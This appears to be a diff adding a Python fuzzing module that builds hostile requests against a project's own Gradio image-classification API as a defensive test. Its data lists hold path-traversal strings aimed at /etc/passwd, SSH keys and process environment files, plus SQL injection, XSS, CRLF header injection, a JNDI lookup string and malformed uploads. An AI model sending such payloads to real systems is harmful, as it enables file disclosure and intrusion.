@@ -1,0 +1,301 @@
+"""Makes what hostile clients send, the same for the same seed: values, arguments, and whole requests.
+
+Payloads are right ones with some parts replaced: what is wrong all over is refused at the first look.
+`attack.py` sends them.
+"""
+
+import base64
+import json
+import os
+import random
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+from urllib.parse import quote, urlencode
+
+ELSEWHERE = ("http://lineup-tests.invalid/a.jpg", "https://192.0.2.1:9/a.png", "HTTP://192.0.2.1/a.gif")
+TARGETS = ("/etc/passwd", "/etc/hostname", "/proc/self/environ", "/proc/self/fd/0", "/root/.ssh/id_rsa")
+STRINGS = (
+    *("", " ", "\0", "a\0b", "tiny\n", " tiny", "TINY", "tiny_resnet", "resnet18", "torchvision/resnet50"),
+    *("hf-hub:me/evil", "local-dir:/etc", "nan", "null", "None", "-1", "3", "__proto__", "__class__"),
+    *("<script>alert(1)</script>", "' OR 1=1 --", "%s%n%x", "{0.__class__}", "${jndi:ldap://192.0.2.1/a}"),
+    *("\ud800", "\u202eynit", "𝕥𝕚𝕟𝕪", "tiny\u0301", "🖼️" * 500, "x" * 100_000, "\r\nSet-Cookie: a=b"),
+)
+NUMBERS = (0, 1, -1, 2.5, 3.0, -0.0, 1001, 10**9, 1e9, 2**63, 10**400, 1e308, float("nan"), float("inf"), -float("inf"))
+GIF = base64.b64encode(b"GIF89a\1\0\1\0\0\0\0;").decode()
+
+
+@dataclass(frozen=True)
+class Aims:
+    """What payloads may name."""
+
+    names: tuple[str, ...]  # of the line-up
+    picture: str  # a file that was uploaded
+    secret: str  # a picture outside of what may be opened
+    link: str  # a link to it, in the upload folder
+    word: str = "xyzzy"  # stands in the secret, and must never come out
+
+    def paths(self) -> tuple[str, ...]:
+        """Return ways to name what nobody may have."""
+        folder = str(Path(self.picture).parent)
+        return (
+            *(self.secret, self.link, f"file://{self.secret}", f"{folder}/../../..{self.secret}", *TARGETS, *ELSEWHERE),
+            *(f"{folder}/{'../' * 12}etc/passwd", os.path.relpath(self.secret), f"{self.picture}\0.jpg", folder, "/"),
+            *(f"/gradio_api/file={self.secret}", f"data:image/gif;base64,{GIF}", "data:,", "~/.bashrc", "."),
+            f"hf://datasets/me/birds{self.secret}",
+        )
+
+
+def aim(uploads: Path, outside: Path, picture: bytes, names: tuple[str, ...]) -> Aims:
+    """Put a picture where uploads lie, and elsewhere one that nobody may have, with a link to it."""
+    there, secret = uploads / "hostile" / "picture.jpg", outside / "secret.jpg"
+    there.parent.mkdir(parents=True, exist_ok=True)
+    there.write_bytes(picture)
+    secret.write_bytes(picture + Aims.word.encode())
+    link = there.with_name("link.jpg")
+    link.unlink(missing_ok=True)
+    link.symlink_to(secret)
+    return Aims(names, str(there), str(secret), str(link))
+
+
+# --- values ---
+
+
+def value(chance: random.Random, aims: Aims, depth: int = 0) -> Any:
+    """Return anything that JSON can hold, mostly what somebody might stumble over."""
+    kind = chance.randrange(10 if depth < 3 else 6)
+    if kind < 6:
+        return chance.choice((None, True, False, *NUMBERS, *STRINGS, *aims.paths(), *aims.names))
+    if kind == 6:
+        return [value(chance, aims, depth + 1) for _ in range(chance.choice((0, 1, 2, 5, 50)))]
+    if kind == 7:
+        keys = ("path", "url", "meta", "name", "__type__", "value", "choices", "_type", "data", "index")
+        return {chance.choice(keys): value(chance, aims, depth + 1) for _ in range(chance.choice((0, 1, 2, 4)))}
+    if kind == 8:
+        return nested(chance.choice((20, 200, 900)), chance.choice("[{"))
+    return image(chance, aims)
+
+
+def nested(depth: int, kind: str) -> Any:
+    """Return a list in a list in a list, or an object likewise."""
+    inner: Any = None
+    for _ in range(depth):
+        inner = [inner] if kind == "[" else {"path": inner}
+    return inner
+
+
+def image(chance: random.Random, aims: Aims) -> Any:
+    """Return what names a file, as Gradio's clients do or a little otherwise."""
+    path: Any = chance.choice((aims.picture, *aims.paths(), *aims.paths()))
+    made = {"path": path, "meta": {"_type": "gradio.FileData"}}
+    for key, options in (
+        ("url", (path, *ELSEWHERE, f"file://{aims.secret}", None, 3)),
+        ("orig_name", ("../../a.jpg", "a\0.jpg", "a" * 5000, aims.secret, 7)),
+        ("mime_type", ("image/svg+xml", "text/html", "x" * 1000, [])),
+        ("size", (-1, 10**30, "big", float("nan"))),
+        ("is_stream", (True, "yes", None)),
+        ("meta", ({}, None, [], {"_type": "gradio.Other"}, "gradio.FileData")),
+        ("path", (None, [path], {"path": path}, 0, True, "")),
+    ):
+        if chance.random() < 0.15:
+            made[key] = chance.choice(options)
+    if chance.random() < 0.3:  # without "meta" Gradio does not look where a file lies
+        made.pop(chance.choice(("path", "meta", "meta", "meta")))
+    if chance.random() < 0.15:
+        return chance.choice((path, [made], {"image": made}, [path], [[made, "caption"]], {"path": made, **made}))
+    return made
+
+
+def good(part: Any, aims: Aims) -> Any:
+    """Return what a part of the page sends when a visitor uses it as he should."""
+    kind = type(part).__name__
+    if kind == "Image" or "image" in str(part.label).lower():
+        return {"path": aims.picture, "meta": {"_type": "gradio.FileData"}}
+    if kind == "Dropdown":
+        return [] if part.multiselect else aims.names[0]
+    return {"Slider": 1}.get(kind)
+
+
+def arguments(chance: random.Random, aims: Aims, function: Any) -> list[Any]:
+    """Return a value for each input of a function of the page, some of them hostile."""
+    values = [good(part, aims) for part in function.inputs]
+    for place in chance.sample(range(len(values)), chance.randint(min(1, len(values)), len(values))):
+        values[place] = image(chance, aims) if chance.random() < 0.4 else value(chance, aims)
+    return values
+
+
+def event_data(chance: random.Random, aims: Aims) -> Any:
+    """Return what a click on an example says it clicked."""
+    index = chance.choice((0, -1, 10**9, "0", None, [0], True, 0.5, value(chance, aims)))
+    return chance.choice(({"index": index, "value": value(chance, aims)}, {"index": index}, {}, value(chance, aims)))
+
+
+def query(chance: random.Random, aims: Aims) -> str:
+    """Return the query of a link to the page."""
+    keys = ("backbone", "backbone", "top_k", "example", "__theme", "session_hash", "a" * 1000)
+    pairs = [(chance.choice(keys), value(chance, aims, 3)) for _ in range(chance.randrange(4))]
+    return urlencode([(key, str(each)[:2000]) for key, each in pairs], errors="replace")
+
+
+# --- requests ---
+
+
+@dataclass(frozen=True)
+class Request:
+    """What is sent, and where its answer is listened for: `{event}` stands for the id that comes back."""
+
+    method: str
+    path: str
+    body: bytes = b""
+    headers: dict[str, str] = field(default_factory=dict)
+    listen: str = ""
+
+
+API = "/gradio_api"
+JSON = {"Content-Type": "application/json"}
+
+
+def requests(aims: Aims, functions: list[Any], seed: int) -> Iterator[Request]:
+    """Make requests to every endpoint in turn, without end."""
+    chance = random.Random(seed)
+    public = [each for each in functions if each.api_visibility == "public"]
+    private = [each for each in functions if each.api_visibility != "public"]
+    makers: list[Callable[[], Request]] = [
+        lambda: _call(chance, aims, chance.choice(public), "call/v2"),
+        lambda: _call(chance, aims, chance.choice(public), "call"),
+        lambda: _join(chance, aims, chance.choice(public)),
+        lambda: _join(chance, aims, chance.choice(private)),
+        lambda: _join(chance, aims, chance.choice(private)),
+        lambda: upload(chance, aims),
+        lambda: _mcp(chance, aims),
+        lambda: _small(chance, aims),
+        lambda: _fetch(chance, aims),
+        lambda: _garbage(chance),
+    ]
+    while True:
+        for make in makers:
+            yield make()
+
+
+def _call(chance: random.Random, aims: Aims, function: Any, way: str) -> Request:
+    values = arguments(chance, aims, function)
+    name = function.api_name
+    if way == "call":
+        body: dict[str, Any] = {"data": values[: chance.choice((None, None, None, 1))] + [1] * chance.choice((0, 0, 9))}
+        for key in ("event_data", "session_hash", "fn_index", "trigger_id", "batched", "simple_format", "oauth_token"):
+            if chance.random() < 0.1:
+                body[key] = value(chance, aims)
+    else:
+        names = {"classify": ("image", "backbone", "top_k"), "compare": ("image", "backbones", "top_k")}.get(name, ())
+        body = dict(zip(names, values, strict=True))
+        if chance.random() < 0.2 and body:
+            body.pop(chance.choice(list(body)))
+        if chance.random() < 0.1:
+            body[chance.choice(("more", "", "self", "oauth_token", "\ud800"))] = value(chance, aims)
+    listen = f"{API}/call/{name}/{{event}}"
+    return Request("POST", f"{API}/{way}/{name}", json.dumps(body).encode(), JSON, listen)
+
+
+def _join(chance: random.Random, aims: Aims, function: Any) -> Request:
+    session = f"hostile{chance.randrange(10**9)}"
+    if chance.random() < 0.1:
+        session = chance.choice(("../../etc", "a/b?c#d", "\u202e", " ", "x" * 5000))
+    body = {"data": arguments(chance, aims, function), "fn_index": function._id, "session_hash": session}
+    body["event_data"] = event_data(chance, aims) if chance.random() < 0.7 else None
+    for key in ("trigger_id", "event_id", "batched", "fn_index", "session_hash", "data", "simple_format"):
+        if chance.random() < 0.04:
+            body[key] = value(chance, aims)
+    session = body["session_hash"]
+    named = quote(session, safe="", errors="replace") if isinstance(session, str) else ""
+    listen = f"{API}/queue/data?session_hash={named}" if named else ""
+    path = f"{API}/queue/join?{query(chance, aims)}"
+    return Request("POST", path, json.dumps(body).encode(), JSON, listen)
+
+
+def upload(chance: random.Random, aims: Aims) -> Request:
+    """Return a multipart body that is odd in one way or another."""
+    names = (
+        "../../../../tmp/out.jpg",
+        aims.secret,
+        "a\0.jpg",
+        "",
+        ".",
+        "..",
+        "/",
+        "a" * 5000,
+        "ä🖼️.jpg",
+        "CON",
+        "a.svg",
+    )
+    boundary, name = "lineup", chance.choice((*names, "a.jpg"))
+    head = f'Content-Disposition: form-data; name="files"; filename="{name}"'
+    part = Path(aims.picture).read_bytes()
+    oddity = chance.choice(
+        ("none", "no filename", "no name", "many", "header", "boundary", "cut", "type", "empty", "line")
+    )
+    if oddity == "no filename":
+        head = 'Content-Disposition: form-data; name="files"'
+    elif oddity == "no name":
+        head = "Content-Disposition: form-data"
+    elif oddity == "header":
+        head += "\r\nX-Long: " + "a" * 100_000
+    elif oddity == "line":
+        head += "\r\nContent-Type\r\n: \r\n"
+    piece = f"--{boundary}\r\n{head}\r\n\r\n".encode(errors="replace") + (b"" if oddity == "empty" else part)
+    body = piece if oddity == "cut" else piece + f"\r\n--{boundary}--\r\n".encode()
+    if oddity == "many":
+        tiny = f"--{boundary}\r\n{head}\r\n\r\nx\r\n".encode()
+        body = tiny * chance.choice((20, 1100)) + f"--{boundary}--\r\n".encode()
+    kind = {
+        "boundary": chance.choice(
+            ("multipart/form-data", "multipart/form-data; boundary=other", "multipart/form-data; boundary=")
+        ),
+        "type": chance.choice(("application/json", "text/plain", "", "multipart/mixed; boundary=lineup")),
+    }.get(oddity, f"multipart/form-data; boundary={boundary}")
+    path = f"{API}/upload" + chance.choice(("", "", "?upload_id=a", "?upload_id=../..", "/"))
+    return Request("POST", path, body, {"Content-Type": kind})
+
+
+def _mcp(chance: random.Random, aims: Aims) -> Request:
+    made = image(chance, aims)
+    asked: dict[str, Any] = {"image": chance.choice((made, made, value(chance, aims), f"data:image/gif;base64,{GIF}"))}
+    tool = chance.choice(("classify", "compare", "backbones", "nothing", value(chance, aims, 3)))
+    for key in ("backbone", "backbones", "top_k", "more"):
+        if chance.random() < 0.4:
+            asked[key] = chance.choice((made, [made], value(chance, aims)))
+    call = {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": tool, "arguments": asked}}
+    if chance.random() < 0.2:
+        call[chance.choice(("id", "method", "params", "jsonrpc"))] = value(chance, aims)
+    headers = {**JSON, "Accept": "application/json, text/event-stream"}
+    return Request("POST", f"{API}/mcp/", json.dumps(call).encode(), headers)
+
+
+def _small(chance: random.Random, aims: Aims) -> Request:
+    path = chance.choice(("cancel", "cancel", "reset"))
+    body = {"session_hash": "hostile", "fn_index": chance.choice((0, 1, -1, 10**9)), "event_id": "x"}
+    for key in body:
+        if chance.random() < 0.4:
+            body[key] = value(chance, aims)
+    return Request("POST", f"{API}/{path}", json.dumps(body).encode(), JSON)
+
+
+def _fetch(chance: random.Random, aims: Aims) -> Request:
+    way = chance.choice(
+        ("file=", "file=", "call/classify/", "call/v2/classify/", "queue/data?session_hash=", "/../file=")
+    )
+    target = chance.choice((*aims.paths(), f"..{aims.secret}", f"/{aims.secret}", str(value(chance, aims, 3))[:500]))
+    quoted = chance.choice((quote(target, errors="replace"), quote(target, safe="", errors="replace")))
+    return Request(chance.choice(("GET", "GET", "HEAD")), f"{API}/{way}{quoted}")
+
+
+def _garbage(chance: random.Random) -> Request:
+    path = chance.choice(("call/classify", "call/v2/classify", "queue/join", "cancel", "reset", "mcp/", "upload"))
+    deep = chance.choice(("[", '{"a":')) * 50_000
+    body = chance.choice(
+        (b"", b"null", b"[]", b"{", b"\xff\xfe\0", deep.encode(), b'{"data": 3}', b"9" * 5000, chance.randbytes(1000))
+    )
+    kind = chance.choice(("application/json", "application/json; charset=utf-7", "text/plain", "image/png", "x" * 9000))
+    headers = {"Content-Type": kind, "Accept": "application/json, text/event-stream"}
+    extra = chance.choice(({}, {}, {"Content-Encoding": "gzip"}, {"X-Forwarded-Host": "a b"}, {"Referer": "\x7f"}))
+    return Request("POST", f"{API}/{path}", body, {**headers, **extra})
